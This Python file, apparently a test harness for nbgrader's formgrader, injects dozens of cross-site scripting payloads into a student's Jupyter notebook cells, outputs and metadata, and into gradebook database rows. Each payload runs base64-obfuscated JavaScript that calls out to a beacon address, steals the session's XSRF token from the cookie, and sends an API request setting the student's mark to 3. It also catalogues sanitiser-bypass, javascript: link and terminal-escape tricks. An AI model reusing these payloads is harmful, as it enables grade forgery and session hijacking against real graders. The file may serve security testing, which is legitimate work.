"""What a trainee can put into a notebook so that it acts in the name of whoever looks at it: one plant a technique.

Every script reports its name to a beacon, leaves its name in the window, and sends a better mark with the XSRF token of
the session it runs in. Pictures and styles report to the beacon too: a page that loads them tells who reads it.
"""

import base64
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

# `{js}` is a script without quotes of the other kind and without angle brackets, `{beacon}` an address to call.
MARKDOWN = {
    "script": "<script>{js}</script>",
    "script-elsewhere": "<script src='{beacon}.js'></script>",
    "image-error": '<img src="x" onerror="{js}">',
    "image-error-without-quotes": "<div><img src=x onerror={js}></div>",
    "svg-load": '<svg onload="{js}"></svg>',
    "svg-animation": '<svg><animate onbegin="{js}" attributeName="x" dur="1s"></animate></svg>',
    "svg-script": "<svg><script>{js}</script></svg>",
    "details-toggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "video-source-error": '<video><source onerror="{js}" src="x"></video>',
    "unclosed-tag": '<div><img src="x" onerror="{js}" ',
    "frame-srcdoc": '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    "frame-javascript": '<iframe src="javascript:{js}"></iframe>',
    "object-data": "<object data='{beacon}'></object>",
    "style-sheet": "<style>#notebook {{ background-image: url({beacon}) }}</style>",
    "style-import": "<style>@import url({beacon});</style>",
    "style-attribute": '<p style="background-image: url({beacon})">x</p>',
    "link-stylesheet": '<link rel="stylesheet" href="{beacon}">',
    "link-preload": '<link rel="preload" as="image" href="{beacon}">',
    "image-that-tells": "![x]({beacon})",
    "image-of-html": '<img src="{beacon}" alt="x">',
    "form-sends-itself": "<form id='sends' action='{beacon}' target='nowhere'></form><iframe name='nowhere'></iframe>"
    "<img src='y' onerror=\"document.getElementById('sends').submit()\">",
    "link-javascript": "[click](javascript:{js_url})",
    "link-with-references-in-markdown": "[click](&#106;avascript:{js_url}) [click](&#x6a;avascript&colon;{js_url})",
    "link-by-reference": "[click][far]\n\n[far]: javascript\\:{js_url}",
    "link-javascript-html": '<a href="javascript:{js}">click</a>',
    "link-with-references": '<a href="&#106;ava&Tab;script:{js}">click</a>',
    "link-in-svg": '<svg width="9" height="9"><a xlink:href="javascript:{js}"><text y="9">click</text></a></svg>',
    "button-formaction": '<form><button formaction="javascript:{js}">click</button></form>',
    # Text that a sanitiser reads in one way and a browser in another.
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "mutation-noscript": '<div><noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    "mutation-template": "<div><template><s><template><s><img src=x onerror={js}></s></template></s></template>",
    "mutation-comment": "<div><!--><img src=x onerror={js}>-->",
    "mutation-textarea": '<div><textarea><p title="</textarea><img src=x onerror={js}>">',
    "mutation-foreign": '<div><svg><foreignObject><math><mi xlink:href="x"><img src=x onerror={js}></mi></math></svg>',
    "mutation-math-style": "<div><math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "mathjax-href": r"$\href{{javascript:{js_url}}}{{click}}$ $&#92;href{{javascript:{js_url}}}{{x}}$",
    "mathjax-token": r'$\mmlToken{{mi}}[href="javascript:{js_url}"]{{click}}$ $\unicode{{x3c}}$',
}
DATA = {
    "output-html": {"text/html": "<script>{js}</script>"},
    "output-html-event": {"text/html": '<img src="x" onerror="{js}">'},
    "output-javascript": {"application/javascript": "{js}"},
    "output-svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>"},
    "output-markdown": {"text/markdown": "<div><img src=x onerror={js}>"},
    "output-latex": {"text/latex": "$$</script><img src=x onerror={js}>$$"},
    "output-picture": {"image/png": 'x" onerror="{js}'},
    "output-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>{js}</script>"}},
    "output-chart": {"application/vnd.vegalite.v5+json": {"data": {"url": "{beacon}"}, "mark": "</script>"}},
    "output-json": {"application/json": {"x": "<img src=x onerror={js}>"}},
    "output-pdf": {"application/pdf": "{beacon}"},
}
# What formgrader as shipped does not run either, in this browser and without the network: other readers may.
INERT = {
    "attachment", "comment", "error", "isolated", "kernel", "mathjax-href", "mathjax-token",
    "mutation-math-style", "mutation-noscript", "mutation-template", "mutation-textarea", "output-chart",
    "output-json", "output-latex", "output-pdf", "output-picture", "output-svg", "output-widget", "picture-width",
    "points", "printed", "printed-escapes", "tag", "widget-state",
}  # fmt: skip
ESCAPES = "\x1b]8;;javascript:{js_url}\x07click\x1b]8;;\x07 \x1b[31m<img src=x onerror={js}>\x1b[0m \u202e"

Fill = Callable[[str, Any], Any]


@dataclass(frozen=True)
class Aim:
    """Whom the plants report to (`beacon`, an origin), and whose mark they change."""

    beacon: str
    grade_row: str
    attempt_id: str

    def script(self, name: str) -> str:
        """Tell the beacon, leave a flag, change the mark."""
        cookie = "Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get.call(document)"
        headers = f"{{'Content-Type':'application/json','X-Academy-Attempt':'{self.attempt_id}','X-XSRFToken':token}}"
        return (
            f"top.ran=(top.ran||[]).concat('{name}');fetch('{self.beacon}/{name}',{{mode:'no-cors'}});"
            f"var token=(/_xsrf=([^;]*)/.exec({cookie})||[])[1];"
            f"fetch(self.origin+'/user/x/formgrader/api/grade/{self.grade_row}',"
            f"{{method:'PUT',headers:{headers},body:JSON.stringify({{manual_score:3}})}})"
        )

    def fill(self, name: str, plant: Any) -> Any:
        """The plant with its script and its address in place, whatever structure it has."""
        if isinstance(plant, dict):
            return {key: self.fill(name, value) for key, value in plant.items()}
        packed = base64.b64encode(self.script(name).encode()).decode()
        js = f"eval(atob('{packed}'))"
        js_url = js.replace("(", "%28").replace(")", "%29")
        return plant.format(js=js, js_url=js_url, beacon=f"{self.beacon}/{name}")


def plant_all(course: Path, student_id: str, aim: Aim) -> set[str]:
    """Put every technique into what is shown of a student's work; their names."""
    (notebook,) = (course / "autograded" / student_id).glob("*/*.ipynb")
    nb = nbformat.read(notebook, as_version=4)
    for name, text in MARKDOWN.items():
        nb.cells.append(new_markdown_cell(aim.fill(name, text)))
    for name, data in DATA.items():
        nb.cells.append(new_code_cell("1", outputs=[new_output("display_data", data=aim.fill(name, data))]))
    named = _plant_elsewhere(nb, aim)
    # Last, for the page goes away with it; and one that takes the names of the page's own scripts.
    refresh = f'<meta http-equiv="refresh" content="3;url={aim.beacon}/refresh">'
    nb.cells.append(new_markdown_cell(f"{refresh}<img name='cookie'><a id='formgrader' href='x'>x</a>"))
    notebook.write_text(json.dumps(nb), encoding="utf-8")
    _plant_in_rows(course, aim)
    return {*MARKDOWN, *DATA, *named, "name", "comment", "refresh"}


def _plant_elsewhere(nb: Any, aim: Aim) -> set[str]:
    """Into outputs that are text, and into metadata: the cells of the notebook as it was are the first of it."""

    def fill(name: str, text: str) -> str:
        return str(aim.fill(name, text))

    image = '<img src="x" onerror="{js}">'
    breaks_out = f'x">{image}'
    isolated = {"text/html": {"isolated": True}}
    wide = {"image/png": {"width": fill("picture-width", '1" onerror="{js}')}}
    outputs = [
        new_output("stream", text=fill("printed", f"<script>{{js}}</script>{image}")),
        new_output("stream", text=fill("printed-escapes", ESCAPES)),
        new_output("error", ename=fill("error", image), evalue=fill("error", image), traceback=[fill("error", image)]),
        new_output("display_data", data={"text/html": fill("isolated", "<script>{js}</script>")}, metadata=isolated),
        new_output("display_data", data={"image/png": "aGVsbG8="}, metadata=wide),
    ]
    nb.cells.append(new_code_cell("1", outputs=outputs))
    forged = {"nbgrader": {"grade_id": fill("grade-id", breaks_out), "grade": True, "solution": True, "points": 3}}
    points = {"grade_id": "p", "grade": True, "solution": True, "points": fill("points", image)}
    nb.cells.append(new_markdown_cell("x", metadata=forged))
    nb.cells.append(new_markdown_cell("x", metadata={"nbgrader": points}))
    nb.cells.append(new_code_cell("1", metadata={"tags": [fill("tag", breaks_out)]}))
    picture = {"x.png": {fill("attachment", 'image/png" onerror="{js}'): "aGVsbG8="}}
    nb.cells.append(new_markdown_cell("![x](attachment:x.png)", attachments=picture))
    state = {"state": {}, "x": fill("widget-state", "</script><script>{js}</script>")}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    nb.metadata["kernelspec"] = {"name": fill("kernel", breaks_out), "display_name": fill("kernel", breaks_out)}
    nb.metadata["title"] = fill("kernel", f"</title>{image}")
    return {
        "printed", "printed-escapes", "error", "isolated", "picture-width", "grade-id", "points", "tag",
        "attachment", "widget-state", "kernel",
    }  # fmt: skip


def _plant_in_rows(course: Path, aim: Aim) -> None:
    """Into what formgrader shows from the gradebook."""
    with closing(sqlite3.connect(course / "gradebook.db")) as book, book:
        book.execute("UPDATE student SET first_name = 'x', last_name = ?", [aim.fill("name", "<script>{js}</script>")])
        text = aim.fill("comment", "</textarea><script>{js}</script>")
        book.execute("UPDATE comment SET auto_comment = ?", [text])
